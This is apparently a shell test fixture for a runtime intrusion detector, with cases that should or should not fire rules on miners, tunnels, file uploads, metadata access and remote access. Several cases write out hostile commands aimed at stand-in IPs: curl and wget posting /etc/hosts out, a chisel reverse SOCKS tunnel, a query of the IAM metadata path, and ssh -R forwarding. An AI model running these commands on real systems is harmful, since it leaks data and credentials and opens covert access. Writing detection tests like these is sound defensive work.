# Miners, tunnels, uploads, and connections that the program behind them has no reason for.

before_miner_started() { disguise /tmp/kswap; }
fires_miner_started() { /tmp/kswap -o stratum+tcp://pool.example.org:3333 -u wallet; }
spares_miner_started() { curl -s -m 2 http://198.51.100.80/stratum; /tmp/kswap -u wallet; }

before_mining_pool_contacted() { disguise /tmp/kswap; }
fires_mining_pool_contacted() { /tmp/kswap connect 203.0.113.99 3333; }
spares_mining_pool_contacted() { /tmp/kswap connect 10.20.0.5 3333; /tmp/kswap connect 203.0.113.99 443; }

before_tunnel_or_anonymising_proxy_run() { disguise /opt/chisel; }
fires_tunnel_or_anonymising_proxy_run() { /opt/chisel client 203.0.113.7:8080 R:socks; }
spares_tunnel_or_anonymising_proxy_run() { ssh -o ConnectTimeout=2 -o BatchMode=yes -N -L 8081:localhost:80 10.20.0.7; }

fires_data_uploaded_by_command() {
    curl -s -m 2 -F file=@/etc/hostname http://203.0.113.7/up
    wget -q -T 2 -t 1 -O /dev/null --post-file=/etc/hosts http://203.0.113.7/up
}
spares_data_uploaded_by_command() {
    curl -s -m 2 -o /tmp/tool http://198.51.100.80/tool.tar.gz
    curl -s -m 2 -T /etc/hostname http://127.0.0.1:8080/in
}

before_outbound_connection_of_database() { disguise /opt/postgres; }
fires_outbound_connection_of_database() { /opt/postgres connect 203.0.113.7 443; }
spares_outbound_connection_of_database() { /opt/postgres connect 10.20.0.6 5432; }

before_cloud_metadata_service_contacted() { disguise /opt/cloud-init; }
fires_cloud_metadata_service_contacted() { curl -s -m 2 http://169.254.169.254/latest/meta-data/iam/; }
spares_cloud_metadata_service_contacted() { /opt/cloud-init connect 169.254.169.254 80; }

fires_system_binary_uses_network() { ping -c 1 -W 1 example.org; }
spares_system_binary_uses_network() { curl -s -m 2 http://198.51.100.80/; }

before_port_forwarded_by_remote_login() { disguise /opt/ssh; }
fires_port_forwarded_by_remote_login() { /opt/ssh signal 0 1 -R 9000:localhost:22 192.0.2.10; }
spares_port_forwarded_by_remote_login() { /opt/ssh signal 0 1 192.0.2.10; }

before_data_packed_with_password() { disguise /opt/zip /opt/gpg; }
fires_data_packed_with_password() { /opt/zip signal 0 1 -r -P hunter2 /tmp/a.zip /srv; /opt/gpg signal 0 1 -c /tmp/a.tar; }
spares_data_packed_with_password() { /opt/zip signal 0 1 -r /tmp/a.zip /srv; /opt/gpg signal 0 1 --verify /tmp/a.sig; }

before_screen_or_clipboard_captured() { disguise /opt/scrot /opt/xclip; }
fires_screen_or_clipboard_captured() { /opt/scrot signal 0 1 /tmp/a.png; /opt/xclip signal 0 1 -o; }
spares_screen_or_clipboard_captured() { /opt/xclip signal 0 1 -i; }

before_microphone_or_camera_opened() {
    mkdir -p /dev/snd
    mknod /dev/snd/pcmC0D0c c 1 3
    mknod /dev/snd/pcmC0D0p c 1 3
    mknod /dev/video0 c 1 3
    disguise /opt/spy /opt/pipewire
}
fires_microphone_or_camera_opened() { /opt/spy read /dev/snd/pcmC0D0c /dev/video0; }
spares_microphone_or_camera_opened() { /opt/pipewire read /dev/snd/pcmC0D0c /dev/video0; /opt/spy read /dev/snd/pcmC0D0p; }

before_remote_access_program_run() { disguise /opt/anydesk /opt/vncviewer; }
fires_remote_access_program_run() { /opt/anydesk signal 0 1 --service; }
spares_remote_access_program_run() { /opt/anydesk --version; /opt/vncviewer signal 0 1 10.20.0.7; }

before_login_agent_used_by_other_program() {
    mkdir -p /tmp/ssh-Xk3
    disguise /opt/relay /opt/ssh-add
    $act serve-unix /tmp/ssh-Xk3/agent.411 &
}
fires_login_agent_used_by_other_program() { /opt/relay unix /tmp/ssh-Xk3/agent.411; }
spares_login_agent_used_by_other_program() { /opt/ssh-add unix /tmp/ssh-Xk3/agent.411; ls /tmp/ssh-Xk3; }
